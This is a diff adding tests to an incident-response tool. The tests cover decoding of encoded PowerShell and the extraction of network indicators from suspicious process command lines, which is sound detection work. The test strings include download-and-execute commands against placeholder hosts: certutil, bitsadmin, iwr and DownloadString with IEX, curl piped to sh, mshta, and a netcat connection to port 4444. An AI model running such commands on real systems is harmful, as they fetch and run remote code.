@@ -5,6 +5,7 @@ from __future__ import annotations
 from datetime import datetime, timedelta, timezone
 
 from irreport.analysis import findings as rules
+from irreport.analysis import indicators
 from irreport.analysis.indicators import extract_indicators
 from irreport.analysis.response import containment_actions
 from irreport.analysis.summary import summarise
@@ -237,3 +238,176 @@ def test_encoded_powershell_decoded():
 def test_encoded_powershell_ignores_bad_or_short():
     assert rules.decode_powershell("powershell.exe -enc !!!notbase64!!!") is None
     assert rules.decode_powershell("powershell.exe -enc QUJDRA==") is None
+
+
+def encode_script(script: str) -> str:
+    import base64
+
+    return base64.b64encode(script.encode("utf-16-le")).decode()
+
+
+def test_encoded_powershell_switch_forms():
+    forms = ["-e", "-en", "-enc", "-enco", "-encod", "-encoded", "-encodedc", "-EncodedCommand",
+             "-ENC", "-eNcOdEdCoMmAnD", "-ec", "-EC", "/e", "/enc", "/EncodedCommand", "--enc",
+             "\u2013enc", "\u2014e", "/\"e\"nc"]
+    for switch in forms:
+        assert rules.decode_powershell(f"powershell.exe {switch} SQBFAFgA") == "IEX", switch
+    assert rules.decode_powershell("pwsh -NoProfile -w hidden -e SQBFAFgA") == "IEX"
+    assert rules.decode_powershell('"C:\\Program Files\\PowerShell\\7\\pwsh.exe" -ec "SQBFAFgA"') \
+        == "IEX"
+
+
+def test_encoded_powershell_other_switches_ignored():
+    for switch in ("-ExecutionPolicy", "-ep", "-Exec", "-ex", "-enableX", "-encodedX", "-eca",
+                   "-ea", "-NoExit", "-"):
+        assert rules.decode_powershell(f"powershell.exe {switch} SQBFAFgA") is None, switch
+    # After -Command or -File the rest is the script and its arguments.
+    assert rules.decode_powershell('powershell.exe -c "Get-Thing -e SQBFAFgA"') is None
+    assert rules.decode_powershell("powershell.exe -Command Get-Thing -e SQBFAFgA") is None
+    assert rules.decode_powershell("powershell.exe -f run.ps1 -e SQBFAFgA") is None
+    assert rules.decode_powershell("powershell.exe -e") is None
+
+
+def test_encoded_powershell_needs_base64_text():
+    assert rules.decode_powershell("powershell.exe -e $payload") is None
+    assert rules.decode_powershell("powershell.exe -enc SQBF-AFgA") is None
+    assert rules.decode_powershell("powershell.exe -enc SQBFAFgAA") is None
+    # Base64 of UTF-8 "test", which decodes as UTF-16LE to CJK characters and no script.
+    assert rules.decode_powershell("powershell.exe -enc dGVzdA==") is None
+    # .NET's base64 decoder skips white space, which a quoted argument may contain.
+    assert rules.decode_powershell('powershell.exe -enc "SQBF AFgA"') == "IEX"
+
+
+def test_encoded_powershell_reads_bounded_prefix():
+    tail = " " + "x" * 2 * 1024 * 1024
+    assert rules.decode_powershell("powershell.exe -e SQBFAFgA" + tail) == "IEX"
+    past_limit = "powershell.exe" + " " * rules.MAX_COMMAND_LINE_CHARS + "-e SQBFAFgA"
+    assert rules.decode_powershell(past_limit) is None
+
+
+def test_encoded_powershell_rule_short_forms():
+    rows = [process("powershell.exe", "powershell -e SQBFAFgA", pid=301),
+            process("pwsh.exe", "pwsh /ec SQBFAFgA", pid=302),
+            process("POWERSHELL.EXE", "POWERSHELL -ENCO SQBFAFgA", pid=303),
+            process("powershell.exe", "powershell -ep bypass -File a.ps1", pid=304),
+            process("powershell.exe", "powershell -ExecutionPolicy SQBFAFgA", pid=305),
+            process("cmd.exe", "cmd.exe /c echo -e SQBFAFgA", pid=306)]
+    [finding] = rules.encoded_powershell(make_collection(process_events=rows))
+    assert [row["ProcessId"] for row in finding.evidence[0].rows] == [301, 302, 303]
+    assert finding.facts["scripts"] == ["IEX"]
+
+
+def command_line_indicators(collection) -> dict[tuple[str, str], object]:
+    kinds = ("URL", "Domain", "IP address")
+    found = extract_indicators(rules.run_rules(collection), collection)
+    return {(i.kind, i.value): i for i in found if i.kind in kinds}
+
+
+def test_download_command_line_indicators():
+    rows = [process("certutil.exe", r"certutil.exe -urlcache -split -f "
+                    r"http://files.example-cdn.net/a.exe C:\Users\Public\a.exe", pid=401),
+            process("powershell.exe", "powershell -c iwr https://198.51.100.7/x.ps1", pid=402,
+                    seconds=5),
+            process("bitsadmin.exe", r"bitsadmin /transfer j ftp://Dl.Example.org:2121/b.exe "
+                    r"C:\Users\Public\b.exe", pid=403, seconds=9)]
+    collection = make_collection(process_events=rows)
+    found = command_line_indicators(collection)
+    assert set(found) == {
+        ("URL", "http://files.example-cdn.net/a.exe"), ("Domain", "files.example-cdn.net"),
+        ("URL", "https://198.51.100.7/x.ps1"), ("IP address", "198.51.100.7"),
+        ("URL", "ftp://Dl.Example.org:2121/b.exe"), ("Domain", "dl.example.org")}
+    url = found[("URL", "https://198.51.100.7/x.ps1")]
+    assert url.context == ("powershell.exe command line: "
+                           "powershell -c iwr https://198.51.100.7/x.ps1")
+    assert url.first_seen == T0 + timedelta(seconds=5)
+    assert url.rules == ["tool-download"]
+    assert found[("Domain", "dl.example.org")].first_seen == T0 + timedelta(seconds=9)
+
+    findings = rules.run_rules(collection)
+    actions = containment_actions(findings, extract_indicators(findings, collection))
+    [block] = [a for a in actions if a.title == "Block the attacker's addresses"]
+    assert block.targets == ["198.51.100.7"]
+
+
+def test_command_line_private_addresses_not_ip_indicators():
+    rows = [process("bitsadmin.exe", r"bitsadmin /transfer j http://10.0.4.21/b.exe C:\b.exe"),
+            process("certutil.exe", "certutil -urlcache -f http://127.0.0.1:8080/c.exe c.exe",
+                    pid=102),
+            process("certutil.exe", "certutil -urlcache -f http://fileserver/d.exe d.exe",
+                    pid=103)]
+    found = command_line_indicators(make_collection(process_events=rows))
+    assert set(found) == {("URL", "http://10.0.4.21/b.exe"),
+                          ("URL", "http://127.0.0.1:8080/c.exe"),
+                          ("URL", "http://fileserver/d.exe")}
+
+
+def test_unflagged_command_lines_ignored():
+    rows = [process("msedge.exe", "msedge.exe --single-argument https://news.example.com/",
+                    parent="explorer.exe"),
+            process("ping.exe", "ping 198.51.100.44", parent="explorer.exe", pid=102)]
+    assert command_line_indicators(make_collection(process_events=rows)) == {}
+
+
+def test_alert_process_command_line_indicators():
+    alert = {"AlertId": "a1", "Title": "Suspicious mshta", "EntityType": "Process",
+             "FileName": "mshta.exe", "AlertTime": T0,
+             "ProcessCommandLine": "mshta.exe http://hta.example.net/x.hta"}
+    found = command_line_indicators(make_collection(alert_evidence=[alert]))
+    assert set(found) == {("URL", "http://hta.example.net/x.hta"), ("Domain", "hta.example.net")}
+    url = found[("URL", "http://hta.example.net/x.hta")]
+    assert url.rules == ["alert"]
+    assert url.first_seen == T0
+    assert url.context == ("mshta.exe command line (Suspicious mshta): "
+                           "mshta.exe http://hta.example.net/x.hta")
+
+
+def test_decoded_powershell_indicators():
+    script = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/a.ps1')"
+    rows = [process("powershell.exe", f"powershell.exe -NoP -W Hidden -e {encode_script(script)}")]
+    found = command_line_indicators(make_collection(process_events=rows))
+    assert set(found) == {("URL", "http://203.0.113.50/a.ps1"), ("IP address", "203.0.113.50")}
+    assert found[("URL", "http://203.0.113.50/a.ps1")].context.startswith(
+        "powershell.exe command line, decoded: IEX (New-Object")
+    assert found[("URL", "http://203.0.113.50/a.ps1")].rules == ["encoded-powershell"]
+
+
+def test_network_indicators_edges():
+    cases = {
+        "iex(iwr http://a.example.com/x.ps1);iex $r": [("URL", "http://a.example.com/x.ps1"),
+                                                      ("Domain", "a.example.com")],
+        "curl http://b.example.com/p|sh": [("URL", "http://b.example.com/p"),
+                                           ("Domain", "b.example.com")],
+        "see http://c.example.com/a.exe.": [("URL", "http://c.example.com/a.exe"),
+                                            ("Domain", "c.example.com")],
+        'x "http://d.example.com/<script>alert(1)</script>"': [
+            ("URL", "http://d.example.com/"), ("Domain", "d.example.com")],
+        "get http://[2001:db8::5]:8443/x": [("URL", "http://[2001:db8::5]:8443/x"),
+                                            ("IP address", "2001:db8::5")],
+        "nc.exe 198.51.100.9 4444": [("IP address", "198.51.100.9")],
+        "setup.exe --version 5.1.19041.1 --build 1.2.3.4.5": [],
+        "x 999.1.1.1 01.2.3.4 v1.2.3.4": [],
+        "mstsc /v:10.0.4.21 & ping 127.0.0.1": [],
+        "http://$server/a http://[bad/x file://c/x": [("URL", "http://$server/a")],
+    }
+    for text, expected in cases.items():
+        assert indicators.network_indicators(text) == expected, text
+
+
+def test_network_indicators_bounded():
+    many = " ".join(f"http://198.51.100.{n}/" for n in range(100))
+    found = indicators.network_indicators(many)
+    assert len(found) == indicators.MAX_INDICATORS_PER_COMMAND_LINE
+    assert found[:2] == [("URL", "http://198.51.100.0/"), ("IP address", "198.51.100.0")]
+
+    long_url = "http://e.example.com/" + "a" * indicators.MAX_URL_CHARS
+    assert indicators.network_indicators(long_url) == []
+
+    limit = rules.MAX_COMMAND_LINE_CHARS
+    late = "x" * limit + " http://late.example.com/"
+    assert indicators.network_indicators(late) == []
+    # A URL that runs across the end of the read prefix would be cut, so it is left out.
+    across = "x" * (limit - 30) + " http://cut.example.com/" + "b" * 40
+    assert indicators.network_indicators(across) == []
+    early = "certutil -f http://early.example.com/a.exe " + "y" * 2 * 1024 * 1024
+    assert indicators.network_indicators(early) == [("URL", "http://early.example.com/a.exe"),
+                                                    ("Domain", "early.example.com")]
